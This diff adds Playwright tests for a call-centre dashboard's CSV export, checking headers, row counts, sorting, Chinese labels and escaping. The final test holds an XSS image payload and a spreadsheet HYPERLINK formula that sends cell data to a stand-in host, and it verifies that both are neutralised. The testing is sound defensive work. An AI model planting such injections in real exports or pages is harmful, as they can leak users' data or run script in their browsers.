@@ -1,0 +1,103 @@
+import { parse } from 'csv-parse/sync'
+import type { Callboard } from './callboard.ts'
+import { expect, test } from './callboard.ts'
+import { downloadedText } from './downloaded-text.ts'
+
+const TIME = /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\+08:00$/
+
+async function start({ page, exportDialog }: Callboard, rows: string, ...columns: string[]) {
+  await page.getByRole('button', { name: 'Export' }).click()
+  await exportDialog.getByRole('radio', { name: rows }).check()
+  for (const column of columns)
+    await exportDialog.getByRole('checkbox', { name: column, exact: true }).check()
+  const download = page.waitForEvent('download')
+  await exportDialog.getByRole('button', { name: 'Start export' }).click()
+  return download
+}
+
+test('all matching calls, over several pages: every call once, as shown', async ({ callboard }) => {
+  const { exportDialog, status } = callboard
+  await callboard.open('?range=yesterday&size=10')
+  const total = (/of ([\d,]+) calls/.exec(await status.innerText()) ?? [])[1] ?? ''
+  const file = await start(callboard, 'All matching calls', 'Session ID', 'Ended')
+  expect(file.suggestedFilename()).toMatch(
+    /^calls_\d{4}-\d\d-\d\d_\d{4}-\d\d-\d\d_Asia-Shanghai\.csv$/,
+  )
+  await expect(exportDialog.getByRole('status')).toHaveText(`Exported ${total} of ${total} calls`)
+  const text = await downloadedText(file)
+  expect(text.startsWith('\uFEFF')).toBe(true)
+  const [head, ...rows] = parse(text, { bom: true })
+  expect(head).toEqual([
+    'Started',
+    'Caller',
+    'Called',
+    'Agent',
+    'Group',
+    'Type',
+    'Talk time',
+    'Hangup reason',
+    'Hung up by',
+    'Labels',
+    'Recording',
+    'Ended',
+    'Session ID',
+  ])
+  expect(rows).toHaveLength(Number(total.replace(',', '')))
+  expect(rows.length).toBeGreaterThan(200)
+  expect(new Set(rows.map((row) => row[12])).size).toBe(rows.length)
+  expect(rows.filter((row) => !TIME.test(row[0] ?? '') || !TIME.test(row[11] ?? ''))).toEqual([])
+  expect(rows.map((row) => row[0])).toEqual(
+    rows
+      .map((row) => row[0])
+      .sort()
+      .reverse(),
+  )
+  expect(new Set(rows.map((row) => row[5]))).toEqual(
+    new Set(['Inbound', 'Outbound', 'Campaign to agent']),
+  )
+  expect(rows.every((row) => /^\d+$/.test(row[6] ?? ''))).toBe(true)
+})
+
+test('this page: the calls and columns in sight, and no others', async ({ callboard }) => {
+  const { page, rows } = callboard
+  await callboard.showColumns('caller', 'hangupReason')
+  await callboard.open('?range=yesterday&size=10&page=3')
+  const shown = await rows.evaluateAll((all) =>
+    all.map((row) => [...row.querySelectorAll('td')].map((cell) => cell.innerText)),
+  )
+  const file = await start(callboard, 'This page')
+  const [head, ...cells] = parse(await downloadedText(file), { bom: true })
+  expect(head).toEqual(['Caller', 'Hangup reason'])
+  expect(cells.map((row) => row[1])).toEqual(shown.map((row) => row[1]?.trim()))
+  expect(cells).toHaveLength(10)
+  await expect(page.getByRole('dialog').getByRole('status')).toHaveText('Exported 10 of 10 calls')
+})
+
+test('a filtered view in Chinese is exported in Chinese words', async ({ callboard }) => {
+  const { page } = callboard
+  await callboard.open('?range=yesterday&type=2&reason=9&label=VIP&label=Call+back')
+  await page.getByRole('combobox', { name: 'Language' }).selectOption('简体中文')
+  await page.getByRole('button', { name: '导出' }).click()
+  const download = page.waitForEvent('download')
+  await page.getByRole('button', { name: '开始导出' }).click()
+  const [head, ...rows] = parse(await downloadedText(await download), { bom: true })
+  expect(head?.slice(0, 3)).toEqual(['开始时间', '主叫', '被叫'])
+  expect(new Set(rows.map((row) => `${row[5]} ${row[7]}`))).toEqual(new Set(['呼入 呼入被挂断']))
+  expect(rows.every((row) => /VIP|Call back/.test(row[9] ?? ''))).toBe(true)
+})
+
+test('markup comes back as the text it was, and nothing of it would run', async ({ callboard }) => {
+  await callboard.open('?range=yesterday&group=!markup')
+  const file = await start(callboard, 'All matching calls', 'Called info', 'Remark')
+  const [, ...rows] = parse(await downloadedText(file), { bom: true })
+  expect(rows).toHaveLength(12)
+  const cells = rows.flat()
+  expect(cells).toContain('<img src=x onerror="document.title=\'broken\'">')
+  expect(cells).toContain('Comma, "Quote" & Sons')
+  expect(cells).toContain('first line\nsecond line\r\nthird; with "quotes", commas\tand a tab')
+  expect(cells).toContain('ليلى الحسن')
+  expect(cells).toContain('🎧 👩🏽‍💼 Zoë')
+  expect(cells).toContain('x'.repeat(1000))
+  expect(cells).toContain('\'=HYPERLINK("http://example.com/?"&A1,"open")')
+  expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
+})
